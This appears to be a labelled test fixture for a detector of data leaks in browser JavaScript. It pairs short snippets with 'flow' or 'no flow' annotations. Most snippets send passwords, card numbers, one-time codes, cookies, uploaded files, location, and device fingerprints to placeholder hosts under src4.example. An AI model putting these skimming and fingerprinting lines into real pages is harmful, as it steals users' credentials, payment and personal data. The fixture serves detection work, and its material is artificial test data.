//# plain-input-selector
// flow: input > pis.src4.example via fetch
fetch('https://pis.src4.example/', { method: 'POST', body: document.querySelector('input').value });

//# input-by-id
// flow: password > iid.src4.example via fetch
fetch('https://iid.src4.example/', { method: 'POST', body: document.getElementById('password').value });

//# inputs-collected
// flow: input > col.src4.example via fetch
const vals3 = [...document.querySelectorAll('input, textarea')].map((el) => el.value);
fetch('https://col.src4.example/', { method: 'POST', body: JSON.stringify(vals3) });

//# event-target-by-listener
// flow: email > evt.src4.example via fetch
document.querySelector('#email').addEventListener('change', ({ target }) => fetch('https://evt.src4.example/', { method: 'POST', body: target.value }));

//# this-value-in-listener
// flow: phone > thv.src4.example via fetch
document.querySelector('input[type=tel]').addEventListener('blur', function () { fetch('https://thv.src4.example/?p=' + this.value); });

//# current-target
// flow: search > cur.src4.example via fetch
document.querySelector('input[type=search]').onkeyup = (e) => fetch('https://cur.src4.example/?q=' + e.currentTarget.value);

//# autocomplete-otp
// flow: otp > otp.src4.example via fetch
fetch('https://otp.src4.example/', { method: 'POST', body: document.querySelector('input[autocomplete="one-time-code"]').value });

//# card-number
// flow: card > crd.src4.example via fetch
fetch('https://crd.src4.example/', { method: 'POST', body: document.querySelector('[name=cardnumber]').value });

//# birth-date
// flow: birthdate > bdt.src4.example via fetch
fetch('https://bdt.src4.example/', { method: 'POST', body: document.querySelector('input[name=birthdate]').value });

//# first-name
// flow: name > fnm.src4.example via fetch
fetch('https://fnm.src4.example/', { method: 'POST', body: document.querySelector('input[autocomplete=given-name]').value });

//# selected-file-read
// flow: file > fil.src4.example via fetch
document.querySelector('input[type=file]').addEventListener('change', (e) => {
  const reader = new FileReader();
  reader.onload = () => fetch('https://fil.src4.example/', { method: 'POST', body: reader.result });
  reader.readAsDataURL(e.target.files[0]);
});

//# canvas-print
// flow: device > cnv.src4.example via fetch
const c12 = document.createElement('canvas');
c12.getContext('2d').fillText('abc', 2, 2);
fetch('https://cnv.src4.example/', { method: 'POST', body: c12.toDataURL() });

//# audio-print
// flow: device > aud.src4.example via fetch
const ctx13 = new OfflineAudioContext(1, 5000, 44100);
const osc13 = ctx13.createOscillator();
osc13.connect(ctx13.destination);
osc13.start();
ctx13.startRendering().then((b) => fetch('https://aud.src4.example/?h=' + b.getChannelData(0).slice(4500).reduce((a, x) => a + Math.abs(x), 0)));

//# fonts-measured
// flow: device > fnt.src4.example via fetch
const found14 = ['Arial', 'Calibri'].filter((f) => document.fonts.check('12px ' + f));
fetch('https://fnt.src4.example/?f=' + found14.join());

//# time-zone-offset
// flow: device > tzo.src4.example via fetch
fetch('https://tzo.src4.example/?o=' + new Date().getTimezoneOffset());

//# cookie-parsed
// flow: identifier > ckp.src4.example via fetch
const uid16 = (document.cookie.match(/(?:^|; )uid=([^;]+)/) || [])[1];
fetch('https://ckp.src4.example/?u=' + uid16);

//# selection-text
// flow: interaction > sel.src4.example via fetch
document.addEventListener('mouseup', () => fetch('https://sel.src4.example/', { method: 'POST', body: window.getSelection().toString() }));

//# click-coordinates
// flow: interaction > clk.src4.example via beacon
document.addEventListener('click', (e) => navigator.sendBeacon('https://clk.src4.example/', JSON.stringify({ x: e.clientX, y: e.clientY })));

//# location-once
// flow: location > geo.src4.example via fetch
navigator.geolocation.getCurrentPosition((p) => fetch('https://geo.src4.example/', { method: 'POST', body: JSON.stringify({ lat: p.coords.latitude }) }));

//# media-query
// flow: device > mq.src4.example via fetch
fetch('https://mq.src4.example/?d=' + matchMedia('(prefers-color-scheme: dark)').matches);

//# check-validity-only
// no flow
// why: whether a field is valid is not what was typed
fetch('https://val.src4.example/?ok=' + document.querySelector('input[type=email]').checkValidity());

//# field-name-only
// no flow
// why: the name of the field is sent, not its value
document.addEventListener('change', (e) => navigator.sendBeacon('https://nam.src4.example/', e.target.name));

//# default-prevented
// no flow
// why: the handler stops the event and sends a constant
document.querySelector('form').addEventListener('submit', (e) => { e.preventDefault(); fetch('https://prv.src4.example/?t=submit'); });

//# own-event-with-value-key
// no flow
// why: the event is the script's own, with a constant detail
document.addEventListener('ready24', (e) => fetch('https://own.src4.example/?v=' + e.detail.value));
document.dispatchEvent(new CustomEvent('ready24', { detail: { value: 'x' } }));
